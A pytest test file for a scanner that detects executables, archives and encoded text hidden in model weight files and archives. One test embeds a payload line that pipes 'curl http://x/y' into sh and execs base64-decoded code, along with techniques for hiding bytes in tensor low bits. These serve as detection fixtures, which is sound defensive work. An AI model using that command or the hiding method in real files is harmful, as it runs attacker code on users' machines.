"""What hides in weights, through the whole scan: in files, in members of archives, between tensors."""

from __future__ import annotations

import base64
import io
import random
from collections.abc import Callable

import numpy as np
import pytest
from tests.trust.corpus.archive_writers import tarred, zipped
from tests.trust.corpus.weight_payloads import (
    PROGRAMS,
    in_gguf,
    in_hdf5,
    in_npy,
    in_onnx,
    in_safetensors,
    in_torch,
    weights,
    with_bytes,
    with_low_bytes,
)

from regraft.record.evidence import Verdict

WRITERS: dict[str, Callable[..., bytes]] = {
    "model.safetensors": in_safetensors,
    "pytorch_model.bin": in_torch,
    "weights.npy": in_npy,
    "model.onnx": in_onnx,
    "model.gguf": in_gguf,
    "model.h5": in_hdf5,
}


def found(scan_files, files, **options):
    return {finding.rule for finding in scan_files(files, **options).findings if finding.rule.startswith("RGS-WGT")}


@pytest.mark.parametrize("name", WRITERS)
def test_tensors_are_read_only_when_asked(scan_files, name):
    program = WRITERS[name](with_bytes(weights(), PROGRAMS["ELF"]))
    hidden = WRITERS[name](with_low_bytes(weights(), PROGRAMS["ELF"], (2, 1, 0)))
    for content in (program, hidden):
        assert found(scan_files, {name: content}) == set()
        assert "RGS-WGT-001" in found(scan_files, {name: content}, weights=True)
    clean = scan_files({name: WRITERS[name](weights())}, weights=True)
    assert clean.verdict is Verdict.PASS, clean.findings


def test_what_belongs_to_no_tensor_is_always_looked_at(scan_files):
    program = PROGRAMS["ELF"]
    torch = in_torch(weights())
    for files in (
        {"m.safetensors": in_safetensors(weights(), after=program)},
        {"m.safetensors": in_safetensors(weights(), gap=program + bytes(-len(program) % 4))},
        {"w.npy": in_npy(weights(), after=program)},
        {"m.pt": torch + program},
    ):
        assert found(scan_files, files) == {"RGS-WGT-001"}


def test_arrays_within_archives(scan_files):
    bad = in_npy(with_bytes(weights(), PROGRAMS["Windows program"]))
    for files in ({"w.npz": zipped({"w.npy": bad})}, {"m.tar.gz": tarred({"w.npy": bad}, mode="w:gz")}):
        assert found(scan_files, files, weights=True) == {"RGS-WGT-001"}


def test_statistics_are_inconclusive_and_name_the_tensor(scan_files):
    text = base64.b64encode(random.Random(5).randbytes(60_000))
    evidence = scan_files({"m.safetensors": in_safetensors(with_low_bytes(weights(), text, (0, 1)))}, weights=True)
    assert evidence.verdict is Verdict.INCONCLUSIVE
    [finding] = [finding for finding in evidence.findings if finding.rule == "RGS-WGT-003"]
    assert finding.data["tensor"] == "layer.weight"
    assert finding.data["kind"] == "structure"


def test_an_archive_in_numbers_is_inconclusive(scan_files):
    content = in_safetensors(with_bytes(weights(), zipped({"x": b"content"})))
    assert found(scan_files, {"m.safetensors": content}, weights=True) == {"RGS-WGT-002"}


def test_damaged_files_are_searched_all_the_same(scan_files):
    content = in_safetensors(with_bytes(weights(), PROGRAMS["ELF"]))[:-100]
    assert "RGS-WGT-001" in found(scan_files, {"m.safetensors": content}, weights=True)


def _not_read(evidence):
    [finding] = [finding for finding in evidence.findings if finding.rule == "RGS-WGT-004"]
    return finding


def test_tensors_that_are_not_read_are_named_and_never_a_pass(scan_files):
    h5py = pytest.importorskip("h5py")
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file.create_dataset("packed", data=weights(), compression="gzip")
        file["plain"] = weights()
    assert scan_files({"m.h5": content.getvalue()}).verdict is Verdict.PASS
    evidence = scan_files({"m.h5": content.getvalue()}, weights=True)
    assert evidence.verdict is Verdict.INCONCLUSIVE
    assert _not_read(evidence).data["tensors"] == ["packed"]
    measured = {measurement.name: measurement.value for measurement in evidence.measurements}
    assert (measured["tensors_read"], measured["tensors_not_read"]) == (1, 1)


def test_data_in_another_file_is_named(scan_files, tmp_path):
    onnx = pytest.importorskip("onnx")
    tensor = onnx.numpy_helper.from_array(weights(), "w")
    output = onnx.helper.make_tensor_value_info("w", onnx.TensorProto.FLOAT, None)
    model = onnx.helper.make_model(onnx.helper.make_graph([], "g", [], [output], [tensor]))
    onnx.save(model, tmp_path / "m.onnx", save_as_external_data=True, location="m.data", size_threshold=0)
    files = {path.name: path.read_bytes() for path in (tmp_path / "m.onnx", tmp_path / "m.data")}
    assert _not_read(scan_files(files, weights=True)).data["tensors"] == ["w"]


def test_low_bytes_of_float64(scan_files):
    clean = weights().astype(np.float64) + np.random.default_rng(1).normal(0, 1e-9, weights().shape)
    assert scan_files({"w.npy": in_npy(clean)}, weights=True).verdict is Verdict.PASS
    numbers = clean.copy().view(np.uint8).reshape(-1, 8)
    text = b"import os, subprocess\nos.system('curl http://x/y | sh')\nexec(base64.b64decode(payload))\n" * 2000
    numbers[:, :4] = np.resize(np.frombuffer(text, np.uint8), (len(numbers), 4))
    hidden = numbers.reshape(-1).view(np.float64)
    assert {"RGS-WGT-001", "RGS-WGT-003"} <= found(scan_files, {"w.npy": in_npy(hidden)}, weights=True)


def test_a_legacy_checkpoint_that_contradicts_itself_is_not_read(scan_files):
    torch = pytest.importorskip("torch")
    content = io.BytesIO()
    torch.save({"w": torch.from_numpy(weights())}, content, _use_new_zipfile_serialization=False)
    data = bytearray(content.getvalue())
    at = len(data) - weights().nbytes - 8
    assert int.from_bytes(data[at : at + 8], "little") == weights().size
    data[at] ^= 1  # one element fewer or more than the pickle says
    assert "RGS-WGT-004" in found(scan_files, {"w.pt": bytes(data)}, weights=True)


def test_the_byte_order_of_the_writing_machine_is_not_that_of_the_numbers(scan_files):
    torch = pytest.importorskip("torch")
    content = io.BytesIO()
    hidden = with_low_bytes(weights(), PROGRAMS["ELF"], (2, 1, 0))
    torch.save({"w": torch.from_numpy(hidden)}, content, _use_new_zipfile_serialization=False)
    data = content.getvalue()
    at = data.index(b"\x88", data.index(b"little_endian"))
    assert "RGS-WGT-001" in found(scan_files, {"w.pt": data[:at] + b"\x89" + data[at + 1 :]}, weights=True)
